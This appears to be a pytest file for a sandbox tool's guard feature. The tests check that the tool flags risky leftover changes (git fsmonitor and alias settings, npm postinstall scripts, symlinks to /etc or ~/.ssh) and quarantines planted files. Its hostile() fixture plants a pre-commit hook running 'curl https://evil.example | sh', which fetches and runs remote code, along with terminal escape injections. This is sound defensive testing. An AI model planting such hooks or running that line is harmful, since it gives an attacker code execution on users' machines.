"""What is said of the difference that a box has made, and what is not."""

from __future__ import annotations

import errno
import os
import stat
import subprocess
from pathlib import Path

import pytest

from claudebox import files
from claudebox.features.guard.changes import Comparison, Leftover, look, take_picture
from claudebox.features.guard.decide import find_guarded, find_others, plan_guard
from claudebox.features.guard.envrc import NAMED
from claudebox.features.guard.git import Account
from claudebox.features.guard.quarantine import Old, Quarantine, remove
from claudebox.features.guard.table import WANTED, find_tools
from claudebox.host.git.index import find_gitlinks
from claudebox.host.tree import Tree
from claudebox.host.walk import walk_project
from claudebox.model import RW, Mount, Origin
from claudebox.view.aftermath import Where, contents, moved, report
from claudebox.view.text import WIDTH, Style, width
from golden import Golden
from hosts.machine import plant

P = "/home/alice/shop"
WHERE = Where(P, "/home/alice")
PLAIN = Style(False)
BEFORE = """
~/shop/.git/HEAD: ref: refs/heads/main\\n
~/shop/.git/objects/
~/shop/.git/refs/
~/shop/.git/config: [core]\\n\\tbare = false\\n
~/shop/.git/hooks/pre-commit.sample*
~/shop/.vscode/settings.json: {}\\n
~/shop/.idea/workspace.xml: <a/>
~/shop/package.json: {"scripts": {"test": "jest"}}\\n
~/shop/pyproject.toml: [build-system]\\nrequires = ["hatchling"]\\n
~/shop/Makefile: all:\\n\\techo\\n
~/shop/inner -> src
~/shop/src/main.py
"""


def change(tmp_path: Path, *changes: tuple[str, str | None], before: str = BEFORE) -> list[Leftover]:
    """What is left when files are written (or removed, or turned into symlinks: `-> target`) meanwhile."""
    tree = plant(tmp_path, before)
    entries = walk_project(tree, P, WANTED)
    account = Account("/home/alice")
    candidates = find_guarded(tree, (P,), entries, account)
    mounts = [Mount(RW, P, Origin.of_rule("project"), source=P)]
    others = (*find_others(entries, candidates), *find_tools(tree, (P,)))
    guard = plan_guard(tree, candidates, mounts, []).replace(others=others, roots=(P,))
    picture = take_picture(tree, guard)
    for name, text in changes:
        path = tmp_path / P.lstrip("/") / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        if text is not None and text.startswith("-> "):
            path.symlink_to(text[3:])
        elif text is not None:
            path.write_text(text)
            path.chmod(0o644)  # as it was, whatever the umask
    later = Tree(str(tmp_path))
    return Comparison(later, guard, picture, look(later, guard, "/home/alice")).leftovers()


def said(tmp_path: Path, *changes: tuple[str, str | None]) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(one.what, one.path.removeprefix(f"{P}/"), one.details) for one in change(tmp_path, *changes)]


def test_nothing_changed_is_nothing_said(tmp_path: Path) -> None:
    assert change(tmp_path) == []


@pytest.mark.parametrize(
    "quiet",
    [
        ("package.json", '{"scripts": {"test": "jest"}, "dependencies": {"a": "1"}}'),
        ("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "x"\n'),
        ("Makefile", "all:\n\techo\n"),
        (".git/config", '[core]\n\tbare = false\n[remote "x"]\n\turl = ../x\n'),
        (".git/hooks/pre-push.sample", "x"),
        ("sub/pyproject.toml", "[build-system]\nrequires = []\n"),
        (".vscode/settings.json", None),
        (".idea/workspace.xml", "<x/>"),
    ],
    ids=lambda change: change[0],
)
def test_what_does_not_matter_is_not_said(tmp_path: Path, quiet: tuple[str, str | None]) -> None:
    assert said(tmp_path, quiet) == []


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        (".git/config", "[core]\n\tfsmonitor = ./x\n", ("changed", ".git/config", ("core.fsmonitor = ./x",))),
        (".git/config.worktree", "[alias]\n\tx = !y\n", ("new", ".git/config.worktree", ("alias.x = !y",))),
        ("sub/.vscode/settings.json", "{}\n", ("new", "sub/.vscode/settings.json", ())),
        (".vscode/settings.json", "{1}", ("changed", ".vscode/settings.json", ())),
        ("package.json", '{"scripts": {"test": "x"}}', ("changed", "package.json", ("test",))),
        ("pyproject.toml", "[build-system]\n", ("changed", "pyproject.toml", ("build-system",))),
        ("p/package.json", '{"scripts": {"prepare": "x", "a": "b"}}', ("new", "p/package.json", ("prepare",))),
        ("inner", "-> /etc", ("changed", "inner", ("-> /etc",))),
        ("Makefile", "all:\n\trm\n", ("changed", "Makefile", ())),
    ],
)
def test_what_matters_is_said(tmp_path: Path, name: str, text: str, expected: tuple[str, str, tuple[str, ...]]) -> None:
    assert said(tmp_path, (name, text)) == [expected]


@pytest.mark.parametrize("broken", ["{", "[" * 50_000, "\0", '"a"', '{"scripts": 1}'])
def test_broken_files_say_nothing_and_break_nothing(tmp_path: Path, broken: str) -> None:
    assert said(tmp_path, ("package.json", broken), ("pyproject.toml", broken), (".git/config", broken)) in (
        [],
        [("changed", "pyproject.toml", ("build-system",))],
    )


def hostile(tmp_path: Path) -> list[Leftover]:
    return change(
        tmp_path,
        (".git/commondir", "../x\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\ncurl https://evil.example | sh\n"),
        (".vscode/settings.json", '{"a": "\x1b[2J"}\n'),
        ("vendor/x/.git/HEAD", "ref: refs/heads/main\n"),
        ("vendor/x/.git/objects/x", ""),
        ("vendor/x/.git/config", "[core]\n" + "".join(f"\tpager = {number}\n" for number in range(9))),
        ("a\x1b[1m/.envrc", "x" * 200 + "\n" + "line\n" * 40),
        ("keys", "-> /home/alice/.ssh"),
        ("Makefile", "all:\n\tcurl\n"),
        ("package.json", '{"scripts": {"test": "x", "postinstall": "y"}}'),
        *((f"sub{number}/.mcp.json", "{}") for number in range(9)),
    )


def test_report_is_exactly_this(tmp_path: Path, golden: Golden) -> None:
    golden.check_scene("aftermath.txt", "report", report(hostile(tmp_path), WHERE, PLAIN))


def test_contents_are_exactly_this(tmp_path: Path, golden: Golden) -> None:
    golden.check_scene("aftermath.txt", "contents", contents(hostile(tmp_path)[:8], WHERE, PLAIN))


def test_one_line_is_exactly_this(tmp_path: Path, golden: Golden) -> None:
    leftovers = change(tmp_path, ("Makefile", "x"), ("package.json", '{"scripts": {"test": "x"}}'), ("setup.py", ""))
    golden.check_scene("aftermath.txt", "one-line", report(leftovers, WHERE, PLAIN))


def test_way_back_is_exactly_this(golden: Golden) -> None:
    directory = "/home/alice/.claudebox/instances/c3085d9538be063a/quarantine/1"
    text = moved(directory, [".mcp.json", "a b"], [f"{P}/.git/config"], [(f"{P}/x\n", "Not a directory")], WHERE)
    golden.check_scene("aftermath.txt", "moved", text)


def test_everything_fits_the_screen_and_is_harmless(tmp_path: Path) -> None:
    leftovers = hostile(tmp_path)
    for text in (report(leftovers, WHERE, PLAIN), contents(leftovers, WHERE, PLAIN)):
        assert [line for line in text.splitlines() if width(line) > WIDTH] == []
        assert text.replace("\n", "").isprintable()


@pytest.mark.parametrize("form", ["sha1", "sha256"])
@pytest.mark.parametrize("version", ["2", "3", "4"])
@pytest.mark.git
def test_gitlinks_are_found_as_git_has_them(tmp_path: Path, version: str, form: str) -> None:
    def git(*words: str) -> str:
        nothing = {"HOME": str(tmp_path), "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}
        environ = {"PATH": os.environ["PATH"], **nothing}
        return subprocess.run(
            ["git", *words], cwd=tmp_path, check=True, capture_output=True, text=True, env=environ
        ).stdout

    git("init", "-q", f"--object-format={form}")
    for number in range(40):
        (tmp_path / f"directory{number % 7}").mkdir(exist_ok=True)
        (tmp_path / f"directory{number % 7}" / f"file{number}").write_text("x")
    git("add", ".")
    for path in ("directory3/sub", "a-link", "z" * 200):
        git("update-index", "--add", "--cacheinfo", f"160000,{'1' * (40 if form == 'sha1' else 64)},{path}")
    if version == "3":
        (tmp_path / "later").write_text("x")
        git("add", "-N", "later")
    git("update-index", "--index-version", version)
    for split in ("--no-split-index", "--split-index"):
        git("update-index", split)
        # Read as the other kind of repository, there may be some that do not exist.
        assert {"directory3/sub", "a-link", "z" * 200} <= set(
            find_gitlinks(Tree(str(tmp_path)), "/.git", [1 << 20]) or []
        )
    assert find_gitlinks(Tree(str(tmp_path)), "/.git", [100]) is None
    content = (tmp_path / ".git/index").read_bytes()
    for cut in (0, 11, 40, 100, len(content) // 2):
        (tmp_path / ".git/index").write_bytes(content[:cut])
        find_gitlinks(Tree(str(tmp_path)), "/.git", [1 << 20])


def test_index_whose_names_grow_takes_the_room_of_its_names(tmp_path: Path) -> None:
    """In version 4 an entry says how much of the name before it has: a letter more each time, and never one less."""
    entry = bytes(24) + b"\0\0\xe0\0" + bytes(12 + 20) + b"\0\1" + b"\0a\0"
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git/index").write_bytes(b"DIRC\0\0\0\4" + (3000).to_bytes(4, "big") + entry * 3000)
    assert len(find_gitlinks(Tree(str(tmp_path)), "/.git", [1 << 26]) or []) >= 3000
    assert find_gitlinks(Tree(str(tmp_path)), "/.git", [1 << 20]) is None


DIRENV = "~/shop/.envrc: use flake\\ndotenv\\n. scripts/env.sh; PATH_add 'bin'\\n\n~/shop/scripts/env.sh\n~/shop/bin/x"


@pytest.mark.parametrize("name", ["flake.nix", "flake.lock", ".env"])
def test_what_direnv_evaluates_on_cd_is_more_than_a_build(tmp_path: Path, name: str) -> None:
    found = change(tmp_path, (name, "x"), ("shell.nix", "x"), before=DIRENV)
    assert [(one.path, one.reason) for one in found if not one.is_ordinary] == [(f"{P}/{name}", NAMED)]
    assert [one.path for one in change(tmp_path / "other", (name, "x"), before="~/shop/x") if not one.is_ordinary] == []


# What is moved away lands in the quarantine and nowhere else, whatever another box does meanwhile.


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for name in ("project", "home", "state"):
        (tmp_path / name).mkdir()
    (tmp_path / "home" / ".bashrc").write_text("mine")
    return tmp_path / "project"


@pytest.fixture(params=["same file system", "another one"])
def place(request: pytest.FixtureRequest, project: Path, monkeypatch: pytest.MonkeyPatch) -> Quarantine:
    def refuse(*_: object, **__: object) -> None:
        raise OSError(errno.EXDEV, "another file system")

    if request.param == "another one":
        monkeypatch.setattr(files, "rename", refuse)
    return Quarantine(str(project.parent / "state"))


@pytest.mark.req("INST-02")
def test_symlink_that_was_moved_first_leads_nothing_out(project: Path, place: Quarantine) -> None:
    (project / "a").symlink_to("../home")
    place.take(str(project), "a", None)
    (project / "a").mkdir()
    (project / "a" / ".bashrc").write_text("planted")
    with pytest.raises(NotADirectoryError):
        place.take(str(project), "a/.bashrc", None)
    assert (project.parent / "home" / ".bashrc").read_text() == "mine"
    assert os.readlink(f"{place.directory}/a") == "../home"


def test_directory_is_never_removed_in_the_place_of_a_symlink(project: Path) -> None:
    with pytest.raises(IsADirectoryError):
        remove(str(project.parent / "home"))


@pytest.mark.req("INST-02")
def test_nothing_is_moved_onto_something(project: Path, place: Quarantine) -> None:
    for text in ("first", "second"):
        (project / "x").write_text(text)
        with pytest.raises(FileExistsError) if text == "second" else pytest.MonkeyPatch.context():
            place.take(str(project), "x", None)
    assert Path(place.directory, "x").read_text() == "first"
    assert (project / "x").read_text() == "second"


@pytest.mark.req("INST-02")
def test_directory_with_everything_in_it(project: Path, place: Quarantine) -> None:
    (project / "d/e").mkdir(parents=True)
    (project / "d/e/file").write_text("text")
    (project / "d/e/file").chmod(0o755)
    (project / "d/link").symlink_to("/etc")
    os.mkfifo(project / "d/fifo")
    place.take(str(project), "d", None)
    assert not (project / "d").exists()
    assert Path(place.directory, "d/e/file").read_text() == "text"
    assert os.readlink(f"{place.directory}/d/link") == "/etc"


@pytest.mark.req("INST-02")
def test_symlink_comes_back_as_one(project: Path, place: Quarantine) -> None:
    (project / "x").symlink_to("/etc/passwd")
    place.take(str(project), "x", Old(b"inner", stat.S_IFLNK | 0o777))
    assert os.readlink(project / "x") == "inner"


@pytest.mark.req("INST-02")
def test_file_comes_back_as_it_was(project: Path, place: Quarantine) -> None:
    (project / "x").write_text("planted")
    place.take(str(project), "x", Old(b"old", stat.S_IFREG | 0o640))
    assert (project / "x").read_text() == "old"
    assert stat.S_IMODE((project / "x").stat().st_mode) == 0o640
